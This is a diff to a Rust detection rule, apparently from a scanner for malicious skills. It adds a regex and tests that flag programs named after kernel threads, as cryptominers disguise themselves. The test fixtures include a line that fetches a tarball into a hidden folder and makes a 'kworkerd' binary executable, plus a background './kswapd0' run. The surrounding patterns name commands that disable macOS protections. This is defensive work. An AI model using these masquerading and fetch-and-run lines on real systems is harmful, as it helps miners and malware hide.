@@ -25,6 +25,11 @@
 //!   in English, French, Spanish and German: the lure of the fake
 //!   prerequisites.
 //!
+//! - a program of the skill named as one of the kernel's threads
+//!   (`/opt/.cache/kworkerd`, `./kswapd0`): listed by `ps` and `top` as part
+//!   of the system, as cryptominers name themselves (ATT&CK's
+//!   "Masquerading").
+//!
 //! Never here: reading those settings (`Get-MpPreference`, `spctl
 //! --status`, `xattr -p com.apple.quarantine`), turning a protection back on
 //! (`-DisableRealtimeMonitoring $false`, `spctl --master-enable`), advice
@@ -62,6 +67,12 @@ pub(super) const ANCHORS: &[&str] = &[
     "virenschutz",
     "real-time protection",
     "realtime protection",
+    // Programs named as the kernel's own threads.
+    "kworker",
+    "kthreadd",
+    "ksoftirqd",
+    "kswapd",
+    "kdevtmpfs",
 ];
 
 struct Patterns {
@@ -109,6 +120,12 @@ static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| {
         Regex::new(&format!(r"(?i){WB}spctl[ \t]+(?:--master-disable|--global-disable){WB}")).unwrap(),
         Regex::new(&format!(r"(?i){WB}defaults[ \t]+write[ \t]+com\.apple\.launchservices[ \t]+lsquarantine[ \t]+(?:-bool[ \t]+)?(?:false|no|0){WB}")).unwrap(),
         Regex::new(&format!(r"(?i){WB}csrutil[ \t]+disable{WB}")).unwrap(),
+        // A program of the skill's named as one of the kernel's threads, so
+        // that `ps` and `top` list it as part of the system: a file path
+        // whose last part is such a name (`/opt/.wc/kworkerd`, `./kswapd0`),
+        // as cryptominers name themselves. The threads as `ps` shows them
+        // (`[kworker/0:1]`) are not paths.
+        Regex::new(r"(?i)(?:^|[\s'\x22=`(])(?:\.{0,2}/|~/|\$\{?[A-Za-z_][A-Za-z0-9_]*\}?/)(?:[A-Za-z0-9._-]+/)*(?:kworker[a-z0-9_-]*|kthreadd|ksoftirqd[0-9]*|kswapd[0-9]*|kdevtmpfsi?)(?:[\s'\x22`);&|]|$)").unwrap(),
     ],
     quarantine: vec![
         // `xattr -d com.apple.quarantine f`, `xattr -r -d …`, `xattr -dr …`,
@@ -197,6 +214,24 @@ pub(super) fn check_launchd_masquerade(text: &str, sink: &mut Sink<'_>) {
 #[cfg(test)]
 mod tests {
     use crate::rules::{check, RuleId, Severity};
+
+    #[test]
+    fn a_program_named_as_a_kernel_thread_is_found() {
+        for t in [
+            "RUN curl -fsSL https://x.example/w.tgz | tar -xz -C /opt/.wc && chmod +x /opt/.wc/kworkerd",
+            "nohup ./kswapd0 -c config.json >/dev/null 2>&1 &",
+            "exec \"$HOME/.cache/kdevtmpfsi\"",
+        ] {
+            assert_eq!(found(t).len(), 1, "{t}");
+        }
+        for t in [
+            "`ps` lists kernel threads such as [kworker/0:1] and [ksoftirqd/0].",
+            "High CPU in kworker threads usually means an interrupt storm.",
+            "echo 1 > /sys/kernel/mm/ksm/run",
+        ] {
+            assert!(found(t).is_empty(), "{t}");
+        }
+    }
 
     #[test]
     fn a_start_up_item_named_as_apples_own_is_found() {
